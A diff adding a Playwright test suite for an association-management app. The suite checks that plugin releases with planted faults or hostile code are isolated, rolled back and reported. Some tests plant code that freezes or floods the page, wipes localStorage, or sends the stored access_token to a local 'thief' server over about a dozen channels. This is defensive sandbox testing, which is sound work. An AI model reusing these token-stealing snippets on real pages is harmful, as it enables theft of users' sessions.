@@ -1,0 +1,379 @@
+import { createServer } from 'node:http';
+import type { APIRequestContext, Browser, Page } from '@playwright/test';
+import { type ComposedProduct, composeProduct } from '@sodalizio/build';
+import { port } from '../support/address.ts';
+import { expect, type SignedIn, signIn, test, tokensOf } from '../support/people.ts';
+import { type Planted, plantedZip } from '../support/planted-area.ts';
+import { deployToken, publish } from '../support/releases.ts';
+
+/**
+ * Releases of a careless or hostile neighbour, live in a real product: what staff see, what its team is told, and that nothing
+ * else notices. Those that the server refuses are tested there (docs/area-code.md names every kind with its test).
+ */
+const ownPort = port + 23;
+test.use({ baseURL: `http://127.0.0.1:${ownPort}` });
+test.describe.configure({ mode: 'default', timeout: 60_000 });
+
+let product: ComposedProduct | undefined;
+let token = '';
+let version = 1;
+let superadmin: SignedIn;
+
+test.beforeAll(async ({ playwright }) => {
+  test.setTimeout(180_000);
+  product = await composeProduct(['mf-associates'], { port: ownPort });
+  const request = await playwright.request.newContext({ baseURL: product.address });
+  superadmin = await tokensOf(request, 'superadmin');
+  token = await deployToken(request, superadmin, 'garden', 'CI');
+  await goLive(request, {});
+  await request.dispose();
+});
+test.afterAll(async () => product?.stop());
+test.beforeEach(async ({ page, tolerated }) => {
+  // Whatever the planted code logs is its own.
+  tolerated.pattern = /./;
+  await signIn(page, 'superadmin');
+});
+
+const byTeam = () => ({ Authorization: `Bearer ${token}` });
+
+/** The team publishes a release, and makes it live. */
+async function goLive(request: APIRequestContext, planted: Planted): Promise<string> {
+  version += 1;
+  const name = await publish(request, token, { area: 'garden', zip: await plantedZip(`${version}.0.0`, planted) });
+  await live(request, name);
+  return `${version}.0.0`;
+}
+async function live(request: APIRequestContext, release: string) {
+  const answer = await request.post('/api/areas/garden/live', { headers: byTeam(), data: { release, why: 'prova' } });
+  expect(answer.status(), await answer.text()).toBe(200);
+}
+/** What the team reads of this version: causes, with what browsers said last. */
+async function told(request: APIRequestContext, of: string): Promise<Record<string, string>> {
+  const answer = await request.get('/api/areas/garden', { headers: byTeam() });
+  const { health } = await answer.json();
+  const failures = health.find((one: { version: string }) => one.version === of)?.failures ?? [];
+  return Object.fromEntries(
+    failures.map((one: { cause: string; last_detail: string }) => [one.cause, one.last_detail]),
+  );
+}
+const expectTold = (request: APIRequestContext, of: string, cause: string, detail: RegExp) =>
+  expect.poll(() => told(request, of), { timeout: 15_000 }).toMatchObject({ [cause]: expect.stringMatching(detail) });
+
+const garden = '/admin/garden';
+const works = (page: Page, text = 'Le rose fioriscono') =>
+  expect(page.getByText(text)).toBeVisible({ timeout: 15_000 });
+const menu = (page: Page) => page.getByRole('navigation', { name: 'Menu principale' });
+
+/** Soci works in the same page: its list, a profile, a form, and the session. */
+async function nothingElseNotices(page: Page) {
+  await menu(page).getByRole('link', { name: 'Soci' }).click();
+  await page.getByRole('button', { name: 'Cerca', exact: true }).click();
+  await expect(page.getByText('2.000 soci trovati')).toBeVisible();
+  await page.keyboard.press('Control+k');
+  await expect(page.getByPlaceholder(/Cerca/)).toBeVisible();
+  await page.keyboard.press('Escape');
+}
+async function openTab(page: Page) {
+  await page.getByRole('row').nth(1).getByRole('link').first().click();
+  await page.getByRole('tab', { name: 'Rose' }).click();
+}
+const tab = (page: Page) => page.getByRole('tabpanel', { name: 'Rose' });
+
+test('a good one is shown, in its screen and in a member’s profile', async ({ page }) => {
+  await page.goto(garden);
+  await works(page);
+  await nothingElseNotices(page);
+  await openTab(page);
+  await expect(tab(page).getByText('Le rose fioriscono')).toBeVisible();
+});
+
+/** Staff see the release before it, in a fresh tab, in both places. */
+const replaced: Record<string, Planted & { cause: string; detail: RegExp }> = {
+  'throws at import': { onImport: 'throw new Error("spine")', cause: 'threw-on-load', detail: /spine/ },
+  'never ends its import': { onImport: 'await new Promise(() => {});', cause: 'hung', detail: /no answer/ },
+  'throws in render': { onRender: 'throw new Error("spine")', cause: 'threw-in-render', detail: /spine/ },
+  'replaces fetch': {
+    onImport: 'window.fetch = async () => new Response("{}");',
+    cause: 'threw-on-load',
+    detail: /fetch/,
+  },
+  'replaces timers': { onImport: 'window.setTimeout = () => 0;', cause: 'threw-on-load', detail: /setTimeout/ },
+  'replaces the history': {
+    onImport: 'const old = history.pushState; History.prototype.pushState = () => {};',
+    ...{ cause: 'threw-on-load', detail: /pushState/ },
+  },
+  'replaces storage': {
+    onImport: 'Storage.prototype.getItem = () => null;',
+    ...{ cause: 'threw-on-load', detail: /getItem/ },
+  },
+  'replaces an observer': {
+    onRender: 'window.ResizeObserver = class {};',
+    ...{ cause: 'threw-in-render', detail: /ResizeObserver/ },
+  },
+};
+for (const [kind, { cause, detail, ...planted }] of Object.entries(replaced))
+  test(`one that ${kind} is replaced by the one before, and its team is told`, async ({ page, request }) => {
+    const bad = await goLive(request, { ...planted, says: 'La nuova' });
+    await page.goto(garden);
+    await works(page);
+    await expectTold(request, bad, cause, detail);
+    await nothingElseNotices(page);
+    await openTab(page);
+    await expect(tab(page).getByText('Le rose fioriscono')).toBeVisible({ timeout: 15_000 });
+    await live(request, '2.0.0');
+  });
+
+/** The release stays in sight, and its team is told of an error outside of rendering. */
+const later: Record<string, Planted & { detail: RegExp }> = {
+  'throws in a handler': { onClick: 'throw new Error("spine nel gesto")', detail: /spine nel gesto/ },
+  'throws in a timer': {
+    onClick: 'setInterval(() => { throw new Error("spine nel tempo"); }, 50);',
+    detail: /spine nel tempo/,
+  },
+  'leaves a rejection to nobody': {
+    onClick: 'Promise.reject(new Error("spine promesse"));',
+    detail: /spine promesse/,
+  },
+};
+for (const [kind, { detail, ...planted }] of Object.entries(later))
+  test(`one that ${kind} stays in sight, and its team is told`, async ({ page, request }) => {
+    const bad = await goLive(request, { ...planted, says: 'La nuova' });
+    await page.goto(garden);
+    await works(page, 'La nuova');
+    await page.getByRole('button', { name: 'Premi' }).click();
+    await expectTold(request, bad, 'threw-later', detail);
+    await works(page, 'La nuova');
+    await nothingElseNotices(page);
+    await openTab(page);
+    await tab(page).getByRole('button', { name: 'Premi' }).click();
+    await expect(tab(page).getByText('La nuova')).toBeVisible();
+    await page.getByRole('tab', { name: 'Recapiti' }).click();
+    await expect(page.getByRole('button', { name: 'Modifica dati' })).toBeVisible();
+    await live(request, '2.0.0');
+  });
+
+/** As a person, or the system, ends a tab that does not answer. */
+async function killBusiest(browser: Browser | null) {
+  const session = await browser?.newBrowserCDPSession();
+  const { processInfo = [] } = (await session?.send('SystemInfo.getProcessInfo')) ?? {};
+  const renderers = processInfo.filter(({ type }) => type === 'renderer');
+  const [busiest] = renderers.sort((one, other) => other.cpuTime - one.cpuTime);
+  if (busiest) process.kill(busiest.id, 'SIGKILL');
+}
+
+/** A page whose renderer is busy for ever, or died: no code in it can tell. */
+for (const [kind, planted] of Object.entries({
+  'loops at import': { onImport: 'for (;;);' },
+  'loops in render': { onRender: 'for (;;);' },
+  'fills the memory': { onRender: 'const all = []; for (;;) all.push(new Array(1e6).fill(all.length));' },
+} satisfies Record<string, Planted>))
+  test(`one that ${kind} freezes one tab, and is replaced in the next`, async ({ page, context, request }) => {
+    const bad = await goLive(request, { ...planted, says: 'La nuova' });
+    await page.goto('/admin/associates');
+    // Of the same browser, so with the same session.
+    const frozen = await context.newPage();
+    await frozen.goto(garden, { waitUntil: 'commit' });
+    const mark = () => page.evaluate(() => localStorage.getItem('sodalizio.opening.garden'));
+    await expect.poll(mark).toContain(bad);
+    // Longer than a page that works keeps its mark.
+    await page.waitForTimeout(3_000);
+    expect(await mark()).toContain(bad);
+    await killBusiest(context.browser());
+    const fresh = await context.newPage();
+    await fresh.goto(garden);
+    await works(fresh);
+    await expectTold(request, bad, 'froze', /froze/);
+    await nothingElseNotices(fresh);
+    await openTab(fresh);
+    await expect(tab(fresh).getByText('Le rose fioriscono')).toBeVisible();
+    await live(request, '2.0.0');
+  });
+
+test('one that blocks the page for eight seconds comes late, and its team is told', async ({ page, request }) => {
+  const block = 'const end = Date.now() + 8000; while (Date.now() < end);';
+  const bad = await goLive(request, { onImport: block, says: 'La nuova' });
+  await page.goto(garden, { waitUntil: 'commit' });
+  await expect(page.getByText(/La nuova|Le rose fioriscono/)).toBeVisible({ timeout: 25_000 });
+  await expectTold(request, bad, 'hung', /it opened after \d{4,} ms|no answer within 5000 ms/);
+  await nothingElseNotices(page);
+  await live(request, '2.0.0');
+});
+
+test('one that never clears its interval runs alone: other areas go on, and nothing is reported', async ({
+  page,
+  request,
+}) => {
+  const bad = await goLive(request, { onRender: 'setInterval(() => { window.rings = (window.rings ?? 0) + 1; }, 5);' });
+  await page.goto(garden);
+  await works(page);
+  await nothingElseNotices(page);
+  const rings = () => page.evaluate(() => Reflect.get(window, 'rings'));
+  const before = await rings();
+  await expect.poll(rings).toBeGreaterThan(before);
+  expect(await told(request, bad)).toEqual({});
+  await live(request, '2.0.0');
+});
+
+test('one that empties the storage empties its own: session, drafts and choices stay', async ({ page, request }) => {
+  const kept = { 'sodalizio.draft.1.prova': '{}', 'sodalizio.kept.prova': '1', 'sodalizio.choice': '1' };
+  const each = 'Object.keys(localStorage).forEach((key) => localStorage.removeItem(key));';
+  const bad = await goLive(request, {
+    onClick: `localStorage.setItem('mine', '1'); localStorage.clear(); ${each} localStorage.setItem('access_token', 'x');`,
+    says: 'La nuova',
+  });
+  await page.goto(garden);
+  await works(page, 'La nuova');
+  await page.evaluate((all) => {
+    for (const [key, value] of Object.entries(all)) localStorage.setItem(key, value);
+  }, kept);
+  const session = () =>
+    page.evaluate(() => [localStorage.getItem('access_token'), localStorage.getItem('session_token')]);
+  const before = await session();
+  await page.getByRole('button', { name: 'Premi' }).click();
+  await expectTold(request, bad, 'meddled', /localStorage\.(clear|removeItem|setItem)/);
+  expect(await session()).toEqual(before);
+  const drafts = await page.evaluate(() =>
+    Object.keys(localStorage).filter((key) => /^sodalizio\.(draft|kept)/.test(key)),
+  );
+  expect(drafts.toSorted()).toEqual(['sodalizio.draft.1.prova', 'sodalizio.kept.prova']);
+  expect(await page.evaluate(() => localStorage.getItem('mine'))).toBeNull();
+  await page.reload();
+  await works(page, 'La nuova');
+  await live(request, '2.0.0');
+});
+
+for (const [kind, onClick] of Object.entries({
+  'an element made by a script':
+    'const made = document.createElement("style"); made.textContent = "body { background: red } .garden_rose { color: red }"; document.head.append(made);',
+  'a rule inserted later':
+    'const made = document.createElement("style"); document.head.append(made); made.sheet.insertRule("body { background: red }");',
+  'an element that arrives as markup':
+    'document.querySelector("main p").innerHTML = "<style>body { background: red }</style>";',
+}))
+  test(`styles that leave the area are taken out and reported: ${kind}`, async ({ page, request }) => {
+    const bad = await goLive(request, { onClick, says: 'La nuova' });
+    await page.goto(garden);
+    await works(page, 'La nuova');
+    await page.getByRole('button', { name: 'Premi' }).click();
+    await expectTold(request, bad, 'style-leak', /body/);
+    const background = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
+    expect(await background()).not.toBe('rgb(255, 0, 0)');
+    await live(request, '2.0.0');
+  });
+
+test.describe('what a page knows does not leave it', () => {
+  const heard: string[] = [];
+  const thief = createServer((request, response) => {
+    heard.push(String(request.url));
+    response.end('ok');
+  });
+  const thiefPort = ownPort + 1;
+  test.beforeAll(() => new Promise<void>((resolve) => thief.listen(thiefPort, '127.0.0.1', resolve)));
+  test.afterAll(() => new Promise((resolve) => thief.close(resolve)));
+
+  const to = `'http://127.0.0.1:${thiefPort}/?' + localStorage.getItem('access_token')`;
+  const link = (target: string) =>
+    `const link = document.createElement('a'); link.href = ${to}; link.target = '${target}'; document.body.append(link); link.click();`;
+  for (const [way, { by, detail }] of Object.entries({
+    'a call': { by: `fetch(${to}).catch(() => {});`, detail: /^connect-src/ },
+    'a beacon': { by: `navigator.sendBeacon(${to}, 'x');`, detail: /^connect-src/ },
+    'a socket': { by: `try { new WebSocket(${to}.replace('http', 'ws')); } catch {}`, detail: /^connect-src/ },
+    // The browser does not say whose.
+    'a picture': { by: `new Image().src = ${to};`, detail: undefined },
+    'a script': { by: `import(${to}).catch(() => {});`, detail: /^script-src/ },
+    'a frame': {
+      by: `const frame = document.createElement('iframe'); frame.src = ${to}; document.body.append(frame);`,
+      detail: /^frame-src/,
+    },
+    'a form': {
+      by: `const form = document.createElement('form'); form.action = ${to}; form.method = 'post'; document.body.append(form); form.submit();`,
+      detail: undefined,
+    },
+    'a window': { by: `window.open(${to});`, detail: /window\.open/ },
+    'a link it opens': { by: link(''), detail: /link/ },
+    'a link it opens elsewhere': { by: link('_blank'), detail: /link/ },
+    'the address': { by: `location.href = ${to};`, detail: /navigation/ },
+  }))
+    test(`by ${way}`, async ({ page, request }) => {
+      const bad = await goLive(request, { onClick: by, says: 'La nuova' });
+      await page.goto(garden);
+      await works(page, 'La nuova');
+      // Playwright's click would wait for a navigation that never comes.
+      await page.getByRole('button', { name: 'Premi' }).focus();
+      await page.keyboard.press('Enter');
+      if (detail) await expectTold(request, bad, 'meddled', detail);
+      else await page.waitForTimeout(1_000);
+      expect(heard).toEqual([]);
+      expect(page.url()).toContain(garden);
+      await works(page, 'La nuova');
+      await live(request, '2.0.0');
+    });
+
+  test('a person’s own click on a link still leads there', async ({ page, request }) => {
+    const onRender = `setTimeout(() => { const link = document.createElement('a'); link.href = 'http://127.0.0.1:${thiefPort}/fuori'; link.textContent = 'Fuori'; document.querySelector('main').append(link); });`;
+    await goLive(request, { onRender });
+    await page.goto(garden);
+    await page.getByRole('link', { name: 'Fuori' }).first().click();
+    await expect.poll(() => heard).toContain('/fuori');
+    await live(request, '2.0.0');
+  });
+});
+
+test('text typed into a form that guards nothing stays when the area is switched off, and a reload asks', async ({
+  page,
+  request,
+}) => {
+  await page.goto(garden);
+  await works(page);
+  const field = page.getByRole('textbox', { name: 'Nome della rosa' });
+  await field.pressSequentially('Rosa gallica');
+  const off = (is: boolean) =>
+    request.post('/api/areas/garden/off', { headers: byTeam(), data: { off: is, why: 'prova' } });
+  expect((await off(true)).status()).toBe(200);
+  await page.waitForTimeout(3_500);
+  await page.mouse.move(10, 10);
+  await page.keyboard.press('Shift');
+  await expect(menu(page).getByRole('link', { name: 'Giardino' })).toHaveCount(0);
+  await expect(field).toHaveValue('Rosa gallica');
+  const asked = page.waitForEvent('dialog');
+  await page.evaluate(() => void setTimeout(() => window.location.reload()));
+  await (await asked).dismiss();
+  await expect(field).toHaveValue('Rosa gallica');
+  await menu(page).getByRole('link', { name: 'Soci' }).click();
+  await expect(page.getByRole('heading', { level: 1, name: 'Soci' })).toBeVisible();
+  expect((await off(false)).status()).toBe(200);
+});
+
+test('one that fails for two people is stopped for all, the superadmins are told, and one click insists', async ({
+  page,
+  request,
+  browser,
+}) => {
+  const bad = await goLive(request, { onImport: 'throw new Error("spine")' });
+  for (const role of ['admin', 'secretary'] as const) {
+    const context = await browser.newContext({ baseURL: `http://127.0.0.1:${ownPort}` });
+    const other = await context.newPage();
+    await signIn(other, role);
+    await other.goto(garden);
+    await works(other);
+    await expect.poll(() => told(request, bad)).toHaveProperty('threw-on-load');
+    await context.close();
+  }
+  const liveVersion = async () =>
+    (await (await request.get('/api/areas/garden', { headers: byTeam() })).json()).live.version;
+  await expect.poll(liveVersion).toBe('2.0.0');
+  await page.goto('/admin/settings/garden');
+  const notice = page.getByRole('alert', { name: `La versione ${bad} è stata fermata` });
+  await expect(notice).toContainText('non ha funzionato per 2 persone su 2. Tutti sono tornati alla 2.0.0.');
+  await expect(notice).toContainText('superadmin@sodalizio.example');
+  await notice.getByRole('button', { name: `Rimetti in uso la ${bad}` }).click();
+  await page.getByRole('textbox', { name: 'Motivo' }).fill('Serve per una prova');
+  await page
+    .getByRole('dialog')
+    .getByRole('button', { name: /Metti in uso/ })
+    .click();
+  await expect.poll(liveVersion).toBe(bad);
+  await expect(notice).toHaveCount(0);
+  await live(request, '2.0.0');
+});
